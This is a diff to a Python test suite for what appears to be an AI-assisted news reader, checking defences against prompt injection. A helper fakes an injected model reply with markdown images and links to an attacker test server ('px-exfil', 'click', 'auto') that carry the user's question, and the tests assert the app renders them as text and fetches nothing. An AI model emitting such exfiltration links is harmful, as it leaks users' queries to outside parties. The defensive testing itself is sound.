@@ -15,7 +15,6 @@ import threading
 from collections.abc import Iterator
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from pathlib import Path
 from typing import Any
 from urllib.parse import quote
 
@@ -91,7 +90,8 @@ def _obeys(attacker: str) -> Any:
     def reply(body: dict[str, Any]) -> str:
         asked = quote(QUESTION)
         return (
-            f"The Brackwater harbour budget grows to 40 million euros next year [1]. ![x]({attacker}/px-exfil?q={asked})"
+            "The Brackwater harbour budget grows to 40 million euros next year [1]."
+            f" ![x]({attacker}/px-exfil?q={asked})"
             f" Read [more]({attacker}/click?q={asked}) or <{attacker}/auto?q={asked}> or {attacker}/bare?q={asked} ."
         )
 
@@ -199,7 +199,7 @@ def test_a_notice_quoting_a_planted_instruction_shows_its_image_as_text(tab: Tab
 def test_opening_an_article_shows_its_metadata_as_text_and_fetches_nothing(tab: Tab, attacker: Attacker) -> None:
     page = tab.page
     page.get_by_role("tab", name="Articles").click()
-    page.locator("#nr-articles").get_by_text("Brackwater harbour budget").first.click()
+    page.locator("#nr-articles").get_by_text("Brackwater harbour budget").locator("visible=true").first.click()
     head = page.locator("#nr-article-head")
     head.get_by_text("Brackwater harbour budget").wait_for(timeout=SLOW)
     page.wait_for_timeout(1500)
@@ -207,9 +207,7 @@ def test_opening_an_article_shows_its_metadata_as_text_and_fetches_nothing(tab: 
     assert f"![t]({attacker.url}/title.png)" in shown and "![s](" in shown and "![a](" in shown, shown
     assert head.locator("img").count() == 0
     links = [a.get_attribute("href") for a in head.locator("a").all()]
-    assert links == ["https://news.example/harbour?x=%29%21%5Bu%5D%28" + attacker.url[7:] + "/url.png%29"] or (
-        len(links) == 1 and links[0].startswith("https://news.example/harbour") and attacker.url not in links[0]
-    ), links
+    assert links == [f"https://news.example/harbour?x=%29!%5Bu%5D%28{attacker.url}/url.png%29"], links  # its own
     assert attacker.paths == []
 
 
